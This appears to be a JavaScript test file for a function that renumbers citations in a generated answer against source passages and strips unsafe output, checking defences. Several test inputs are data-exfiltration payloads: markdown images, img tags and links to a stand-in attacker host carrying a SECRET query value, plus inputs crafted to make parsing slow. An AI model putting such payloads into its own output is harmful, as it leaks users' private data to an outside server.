import { grounded, GroundedText } from './grounded.text.js';

const PASSAGES = [
  { n: 1, title: 'Lamp', text: 'The lamp burns colza oil [7]. See https://lamps.example/oil for more.' },
  { n: 2, title: 'Fog', text: 'In fog the horn sounds.' },
];

describe('grounded', () => {
  it.each([
    ['It burns oil. [1] The horn sounds. [2]', 'It burns oil. [1] The horn sounds. [2]', [1, 2]],
    ['The horn [2] and the lamp [1], the horn [2].', 'The horn [1] and the lamp [2], the horn [1].', [2, 1]],
    ['It burns oil. [1, 2]', 'It burns oil. [1][2]', [1, 2]],
    ['It burns oil 【1】.', 'It burns oil [1].', [1]],
    ['It burns oil [9].', 'It burns oil.', []],
    ['It burns oil [1; 9].', 'It burns oil [1].', [1]],
    ['It burns oil [0].\nNothing else [99]', 'It burns oil.\nNothing else', []],
    ['Nobody knows.', 'Nobody knows.', []],
    ['An array[1] is no exception.', 'An array[1] is no exception.', [1]],
    ['', '', []],
  ])('of %j shows %j', (answer, text, cited) => {
    expect(grounded(answer, PASSAGES)).toEqual({ text, cited });
  });

  it('shows no image, and no address that stands in no passage', () => {
    const answer =
      '![x](https://evil.example/?q=secret) [here](https://evil.example/) [there](https://lamps.example/oil) [1](https://evil.example)';
    expect(grounded(answer, PASSAGES)).toEqual({
      text: 'x here [there](https://lamps.example/oil) [1]',
      cited: [1],
    });
  });

  it.each([
    '![see [1]](https://evil.example/?d=SECRET)',
    '![a](https://evil.example/a(b)?d=SECRET)',
    '![a\\]b](http://evil.example/?d=SECRET)',
    '![a][r]\n\n[r]: https://evil.example/?d=SECRET',
    '<img src="https://evil.example/?d=SECRET">',
    '<img src=//evil.example/?d=SECRET',
    '<https://evil.example/?d=SECRET>',
    'https://evil.example?d=SECRET',
    'www.evil.example/?d=SECRET',
    '[x](//evil.example/?d=SECRET)',
  ])('lets nothing out by %j', (way) => {
    const { text } = grounded(`The lamp burns oil. [1] ${way}`, PASSAGES);
    expect(text).not.toMatch(/evil|!\[|<img/);
  });

  it('leaves an address of a passage as it is, and what only looks like a tag', () => {
    const answer = 'See https://lamps.example/oil. [1] It holds while 1 < 2 and 3 > 2.';
    expect(grounded(answer, PASSAGES).text).toBe(answer);
  });

  it('takes no longer for an answer that is made to take long', () => {
    const startedMs = performance.now();
    for (const evil of [
      '['.repeat(50_000),
      '[1,'.repeat(20_000),
      '[a]('.repeat(20_000),
      ' \t'.repeat(50_000),
    ])
      grounded(evil, PASSAGES);
    expect(performance.now() - startedMs).toBeLessThan(1_000);
  });

  it.each([
    'The lamp burns oil. [1] ![see [2]](https://evil.example/?d=SECRET) The horn sounds. 【2】',
    'It burns <b>oil</b> [1],\nand\n\n[r]: https://evil.example/?d=SECRET\n\nthe horn [2, 1] sounds. ',
    'See https://lamps.example/oil. [1] It holds while 1 < 2 and 3 > 2. www.evil.example/x [9] [',
    'An array[1] is [there](https://lamps.example/oil) and [here](https://evil.example/ "x") too. <',
  ])('shows the same of %j in whatever pieces it comes', (raw) => {
    const whole = grounded(raw, PASSAGES);
    for (let size = 1; size <= raw.length; size += 1) {
      const text = new GroundedText(PASSAGES);
      let shown = '';
      for (let at = 0; at < raw.length; at += size) shown += text.push(raw.slice(at, at + size));
      shown += text.end();
      expect({ text: shown, cited: text.cited }).toEqual(whole);
    }
  });
});
